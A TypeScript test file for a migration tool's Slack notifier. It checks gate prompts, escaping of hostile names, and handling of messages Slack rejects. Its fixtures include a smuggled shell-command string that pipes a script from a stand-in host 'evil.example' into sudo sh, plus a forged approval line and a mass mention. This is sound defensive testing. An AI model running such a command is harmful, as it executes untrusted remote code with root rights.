// The thread on the local Slack over HTTP: every gate is posted whatever things are called, and a message that Slack refuses
// holds up nothing.
import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest'
import { notify } from '../../../jobs/notify.ts'
import type { Speaker } from '../../../jobs/speak.ts'
import { freezeEvidence, startEvidence } from '../../../src/core/asking/gates.ts'
import { fold } from '../../../src/core/journal/fold.ts'
import { type Effect, effectId } from '../../../src/core/model/effects.ts'
import type { EntryBody } from '../../../src/core/model/entries.ts'
import type { Migration } from '../../../src/core/model/migration.ts'
import type { Plan } from '../../../src/core/model/plan.ts'
import { ofMove } from '../../../src/core/model/subjects.ts'
import { theirs } from '../../../src/core/model/text.ts'
import { serviceEffects } from '../../../src/core/steps/hosts.ts'
import type { LocalSlack } from '../../../src/demo/slack/entities.ts'
import { speaker } from '../../../src/slack/speaker.ts'
import type { Views } from '../../../src/store/views.ts'
import { CHANNEL, PEOPLE, startSlack } from '../../demo/slack/bolt.ts'
import { memoryJournal } from '../../support/memory-journal.ts'
import { FREE_TURNS } from '../../support/memory-tokens.ts'
import { entries, move, plan, planned, service } from '../../support/plans.ts'

let slack: LocalSlack
beforeAll(async () => {
  slack = await startSlack()
})
afterAll(() => slack.close())

let posted: Record<string, string>
let errors: string[]
let before: number
beforeEach(() => {
  posted = {}
  errors = []
  before = slack.messages().length
})

const views: Views = {
  saveProgress: async () => undefined,
  progress: async () => null,
  posted: async () => posted,
  remember: async (_id, key, value) => {
    posted[key] = value
  },
}

/** Lets the thread say what the journal says by now. */
async function tell(said: readonly EntryBody[], change: (real: Speaker) => Speaker = (real) => real): Promise<void> {
  const journal = memoryJournal(() => 9_000)
  journal.load(entries(...said))
  journal.putBack(journal.keep(), { runId: 'r1', replicationId: 'h1' })
  const onError = (error: Error): void => void errors.push(error.message)
  await notify('mig-1', {
    journal,
    views,
    onError,
    turns: FREE_TURNS,
    clock: { now: () => 9_000 },
    approvers: [],
    speaker: change(speaker(slack, onError)),
  })
}

const news = () => slack.messages().slice(before)
const standing = (): string[] => {
  const mine = new Set(news().map(({ ts }) => ts))
  return slack.buttons().flatMap(({ ts, label }) => (mine.has(ts) ? label : []))
}

const HOSTILE = ['<!channel>', '`; curl -s evil.example/x | sudo sh; `', 'a\n*Approved by <@U0BOSS>*', 'x'.repeat(240)]
const call = (index: number): string => theirs(`${HOSTILE[index % HOSTILE.length]}${index}`, 250)
const MANY = Array.from({ length: 200 }, (_, index) => move({ id: `vol-${index}`, name: call(index) }, call(index)))
const WORST: Plan = plan(MANY, {
  services: MANY.map((each) => service(each.service)),
  stays: Array.from({ length: 300 }, (_, index) => ({
    ...{ volume: `vol-s${index}`, name: call(index), sizeGib: 5, reason: call(index + 1) },
  })),
  uncovered: Array.from({ length: 600 }, (_, index) => ({
    ...{ volume: `vol-u${index}`, name: call(index), sizeGib: 5, instance: 'i-1', device: '/dev/sdf' },
  })),
})

const PLANNED = planned('mig-1', { plan: WORST, by: PEOPLE[0].id, channel: CHANNEL.id })
const NAMES = WORST.services.map(({ name }) => name)
const M = fold(entries(PLANNED)) as Migration
const by = PEOPLE[1].id
const ask = (gate: 'start' | 'freeze' | 'goLive', evidence: readonly string[]): EntryBody => ({
  ...{ kind: 'asked', gate, basis: 'b', evidence, again: null },
})
const FROZEN = fold(entries(PLANNED, { kind: 'freezing', freeze: 'f', services: NAMES })) as Migration
const HANDS = WORST.services.flatMap((each) => serviceEffects(FROZEN, each, 'freeze'))
const CUT: Effect = {
  ...{ subject: ofMove('vol-0'), step: 'snapshot', generation: 1, direction: 'forward' },
  ...{ volumeId: 'vol-0', tags: {} },
}
/** Each stage goes on from the one before it. */
const STAGES: readonly (readonly [EntryBody, ...EntryBody[]])[] = [
  [PLANNED, ask('start', startEvidence(M))],
  [
    { kind: 'approved', asked: 'n2', gate: 'start', basis: 'b', by },
    { kind: 'began' },
    ask('freeze', freezeEvidence(M, NAMES) ?? []),
  ],
  [
    { kind: 'approved', asked: 'n5', gate: 'freeze', basis: 'b', by },
    { kind: 'freezing', freeze: 'f', services: NAMES },
    { kind: 'intended', effects: HANDS },
  ],
  [
    { kind: 'confirmed', intended: 'n8', effects: HANDS.map(effectId), by },
    { kind: 'intended', effects: [CUT] },
    ask('goLive', NAMES),
  ],
]

test('200 services by hand, 600 uncovered volumes, names of any kind: each gate is asked, and shows all', async () => {
  const all: EntryBody[] = []
  for (const [index, label] of ['Start', 'Stop writes', 'This is done', 'Go live'].entries()) {
    all.push(...(STAGES[index] ?? []))
    await tell(all)
    expect(standing()).toContain(label)
  }
  expect((fold(entries(...all)) as Migration).misfits.size).toBe(0)
  expect(errors).toEqual([])
  const texts = news().map(({ text, blocks }) =>
    [text, ...blocks.flatMap((each) => (each.type === 'section' ? (each.text?.text ?? '') : []))].join('\n'),
  )
  for (const { volume } of WORST.stays) expect(texts.filter((text) => text.includes(`(${volume}, `))).toHaveLength(1)
  const hands = texts.filter((text) => text.includes('unmount')).join('')
  for (const { id } of MANY.filter((_, index) => index % 4 < 3)) expect(hands).toContain(`the service of ${id},`)
  for (const text of texts) expect(text).not.toMatch(/<!channel>|<@U0BOSS>|\*Approved by/)
})

/** Sends what Slack never takes, in place of the blocks of each message that says this. */
const spoiling =
  (word: string) =>
  (real: Speaker): Speaker => {
    const spoilt = { type: 'section', text: { type: 'mrkdwn', text: 'x'.repeat(3_001) } } as const
    const change: typeof real.post = (channel, thread, message) =>
      real.post(
        channel,
        thread,
        message.text.includes(word) && message.blocks.length > 0 ? { ...message, blocks: [spoilt] } : message,
      )
    return { ...real, post: change }
  }

const BEGUN = [
  planned('mig-1', { by: PEOPLE[0].id, channel: CHANNEL.id }),
  { kind: 'began' },
  ask('freeze', ['It begins.']),
] as const

test('a message that Slack refuses is logged, said in one sentence, not tried again, and those after it come', async () => {
  await tell(BEGUN, spoiling('Started'))
  const [, started, asked] = news()
  expect(started).toMatchObject({ blocks: [] })
  expect(started?.text).toBe(
    "Started by <@U0GILES>. No service stops before that is asked for.\nSlack takes no more of this message (invalid_blocks); zonehop's log says why.",
  )
  expect(asked?.text).toContain('Stop writes now?')
  expect(standing()).toContain('Stop writes')
  expect(errors).toContainEqual(expect.stringMatching(/^Slack refuses a message \(invalid_blocks\)/))
  const logged = errors.length
  await tell([...BEGUN, { kind: 'paused', by }], spoiling('Started'))
  expect(errors).toHaveLength(logged)
  expect(news().map(({ text }) => text)).toContainEqual(expect.stringContaining('Paused by'))
})

test('what is no fault of the message stops there and is thrown, as before', async () => {
  const away = (real: Speaker): Speaker => ({ ...real, post: async () => Promise.reject(new Error('Slack is away')) })
  await expect(tell(BEGUN, away)).rejects.toThrow('Slack is away')
  await tell(BEGUN)
  expect(standing()).toContain('Stop writes')
})

test('a channel that Slack does not know is no fault of the message: who started hears of it', async () => {
  const lost = planned('mig-1', { by: PEOPLE[0].id, channel: 'C0LOST' })
  await tell([lost, { kind: 'began' }])
  expect(errors.splice(0)).toEqual(['Slack takes nothing for the channel (channel_not_found)'])
  expect(news().map(({ text, onlyFor }) => [onlyFor, text])).toEqual([
    [PEOPLE[0].id, expect.stringContaining('Nothing can be posted in the channel of mig-1')],
  ])
})
